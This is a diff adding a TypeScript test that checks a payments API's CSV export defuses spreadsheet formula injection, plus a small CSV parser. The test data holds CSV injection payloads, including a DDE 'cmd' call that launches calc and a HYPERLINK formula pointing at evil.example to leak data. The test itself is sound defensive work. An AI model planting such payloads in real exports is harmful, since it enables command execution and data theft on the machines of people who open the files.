@@ -1,5 +1,5 @@
 import { sqlEngines } from '../../../test/support/databases';
-import { KEYS } from '../../../test/support/api';
+import { KEYS, validPayment } from '../../../test/support/api';
 import { contractFetch } from '../../../test/support/openapi-contract';
 import { createPaymentsModule } from '../../application/payments';
 import type { PaymentId, TenantId } from '../../domain/ids';
@@ -211,6 +211,47 @@ describe.each(sqlEngines())('analyst API on %s', (engine) => {
     expect(await problems(response)).toEqual([{ pointer: '#/query/limit', detail: 'must be a whole number from 1 to 100000' }]);
   });
 
+  it('when names and references start like spreadsheet formulas, then every such CSV cell is defused with an apostrophe and plain numbers stay numbers', async () => {
+    const since = new Date(Date.now() - 1_000).toISOString();
+    const hostile = [
+      { id: 'csv-minus', name: "-1+1+cmd|' /C calc'!A0", reference: '-2+3' },
+      { id: 'csv-equals', name: '=HYPERLINK("http://evil.example/?leak=1","open me")', reference: '=1+1' },
+      { id: 'csv-plus', name: '+SUM(A1:A9)', reference: '+1' },
+      { id: 'csv-at', name: '@SUM(A1)', reference: '@cmd' },
+      { id: 'csv-tab', name: 'Tab Ltd', reference: '\t=1+1' },
+      { id: 'csv-cr', name: 'Carriage Ltd', reference: '\r=1+1' },
+    ];
+    let position = '';
+    for (const payment of hostile) {
+      const body = validPayment({ debtor: { ...validPayment().debtor, name: payment.name }, reference: payment.reference });
+      const put = await api.fetch(`${api.url}/payments/${payment.id}`, {
+        method: 'PUT',
+        headers: { authorization: `Bearer ${KEYS.acme}`, 'content-type': 'application/json' },
+        body: JSON.stringify(body),
+      });
+      expect(put.status).toBe(201);
+      position = put.headers.get('x-log-position')!;
+    }
+
+    const response = await api.call(`/payments?tenant=acme&createdFrom=${encodeURIComponent(since)}`, { key: KEYS.analyst, headers: { accept: 'text/csv', 'x-wait-for-position': position } });
+    expect(response.status).toBe(200);
+    const [header, ...rows] = parseCsv(await response.text());
+    const column = (name: string) => header!.indexOf(name);
+    const byId = new Map(rows.map((row) => [row[column('id')]!, row]));
+    expect([...byId.keys()].sort()).toEqual(hostile.map((payment) => payment.id).sort());
+    for (const payment of hostile) {
+      const row = byId.get(payment.id)!;
+      expect([row[column('debtorName')], row[column('reference')]]).toEqual([
+        /^[=+\-@]/.test(payment.name) ? `'${payment.name}` : payment.name,
+        `'${payment.reference}`,
+      ]);
+      expect(row[column('amount')]).toBe('125.50');
+      expect(row[column('attempts')]).toBe('0');
+    }
+    // No cell of the export, whatever its column, starts a formula.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('when the parameters are invalid and a position is asked for, then 400 at once rather than after the read wait', async () => {
     const started = Date.now();
     const response = await api.call('/payments?limit=501&minPosition=99999999/0', { key: KEYS.analyst });
@@ -281,3 +322,26 @@ describe.each(sqlEngines())('analyst API on %s', (engine) => {
     expect(document.paths['/reports/volume']?.['get']).toBeDefined();
   });
 });
+
+/** RFC 4180: comma-separated, CRLF-terminated rows; a quoted cell may hold commas, quotes (doubled) and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const char = text[index]!;
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') (cell += '"'), (index += 1);
+      else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') row.push(cell), (cell = '');
+    else if (char === '\r' && text[index + 1] === '\n') {
+      rows.push([...row, cell]);
+      [row, cell] = [[], ''];
+      index += 1;
+    } else cell += char;
+  }
+  return rows;
+}
